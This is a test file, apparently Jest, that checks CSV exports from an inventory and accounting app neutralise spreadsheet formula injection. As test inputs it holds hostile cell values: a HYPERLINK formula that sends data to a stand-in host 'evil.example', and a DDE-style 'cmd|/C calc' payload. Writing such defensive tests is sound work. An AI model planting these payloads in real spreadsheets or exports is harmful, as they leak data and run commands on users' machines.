import { parse } from 'csv-parse/sync';
import { signedUpApp } from './support/signed-up-app';
import { dec } from '../../server/domain/decimal';
import { today } from '../../server/clock';
import { createPart } from '../../server/services/catalogue';
import { createPurchaseOrder } from '../../server/services/purchasing/create-po';
import { receiveLine } from '../../server/services/goods-in/receive';
import { postStockEvent } from '../../server/services/stock/post-event';
import { safeCell } from '../../server/services/csv-export';

// Text from people and from the accounting system (part names, suppliers, account names, notes)
// lands in the exports; a spreadsheet runs a cell starting with = + - @ (or a tab or CR) as a
// formula. Every export must show such text as text, and leave amounts as numbers.
const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const t = signedUpApp({ organisation: 'Export Works', name: 'Ed Export', email: 'ed@example.com' });
beforeAll(async () => {
  const { tenantId } = t.actor;
  await createPart(t.db, tenantId, { sku: 'EVIL-1', name: HOSTILE });
  await createPart(t.db, tenantId, { sku: 'KIT', name: 'Kit', source: 'made' });
  await createPart(t.db, tenantId, { sku: 'BOLT', name: 'Bolt' });
  await t.db('account_mappings').where({ tenant_id: tenantId, role: 'raw_materials' }).update({ account_name: '@SUM(1+1)*cmd|"/C calc"!A0' });
  const po = (await createPurchaseOrder(t.db, t.actor, { supplier: '+Acme Bearings', location: 'MAIN', lines: [{ part: 'EVIL-1', quantity: dec(4), unitPrice: dec('2.50') }] })).body;
  await receiveLine(t.db, t.actor, po.id, { part: 'EVIL-1', quantity: dec(4) });
  await postStockEvent(t.db, t.actor, { kind: 'opening_balance', occurredOn: today(), lines: [{ part: 'BOLT', location: 'MAIN', quantity: dec(10), unitCost: dec('0.20') }] });
  const [kit, bolt] = await Promise.all(['KIT', 'BOLT'].map((sku) => t.db('parts').where({ tenant_id: tenantId, sku }).first('id')));
  await t.db('bom_lines').insert({ tenant_id: tenantId, parent_part_id: kit.id, component_part_id: bolt.id, position: 1, qty_per: '4', attrition_pct: '0', note: '-2+3\tsee drawing' });
}, 60_000);

const rowsOf = (csv: string): string[][] => parse(csv) as string[][];

describe('CSV exports neutralise formula text', () => {
  it('GRNI: a hostile supplier and part name are text; the value stays a number', async () => {
    const rows = rowsOf((await t.agent.get('/reports/grni.csv').expect(200)).text);
    expect(rows[1]).toEqual(["'+Acme Bearings", expect.any(String), '1', 'EVIL-1', `'${HOSTILE}`, '4', '10.00', today(), '0']);
  });

  it('BOM export: a note starting with - and holding a tab is text', async () => {
    const rows = rowsOf((await t.agent.get('/boms/export').expect(200)).text);
    expect(rows).toContainEqual(['KIT', 'BOLT', '4', '', '0', 'no', "'-2+3\tsee drawing"]);
  });

  it('journals: a hostile account name is text; debits and credits stay numbers', async () => {
    const rows = rowsOf((await t.agent.get('/journals.csv').expect(200)).text);
    const named = rows.filter((r) => r[4].includes('SUM('));
    expect(named.length).toBeGreaterThan(0);
    for (const r of named) expect(r[4]).toBe(`'@SUM(1+1)*cmd|"/C calc"!A0`);
    expect(rows.flatMap((r) => [r[5], r[6]]).filter((v) => v !== '' && !/^(debit|credit)$/.test(v)).every((v) => /^\d+\.\d\d$/.test(v))).toBe(true);
  });
});

describe('safeCell', () => {
  it.each([
    ['=1+2', "'=1+2"], ['+44 20 7946 0000', "'+44 20 7946 0000"], ['-x', "'-x"], ['@cmd', "'@cmd"], ['\tTAB', "'\tTAB"], ['\rCR', "'\rCR"],
    ['-12.50', '-12.50'], ['+3', '+3'], ['12.5', '12.5'], ['Plain text', 'Plain text'], ['', ''],
  ])('%j becomes %j', (input, output) => {
    expect(safeCell(input)).toBe(output);
  });
});

describe('round trip', () => {
  it('a BOM export imports back unchanged, its neutralised note included', async () => {
    const exported = (await t.agent.get('/boms/export').expect(200)).text;
    const page = (await t.agent.get('/boms').expect(200)).text;
    const token = /name="_csrf" value="([^"]+)"/.exec(page)![1];
    await t.agent.post('/boms/import').type('form').send({ _csrf: token, csv: exported }).expect(200);
    const line = await t.db('bom_lines').where({ tenant_id: t.actor.tenantId }).first('note');
    expect(line.note).toBe('-2+3\tsee drawing');
  });
});
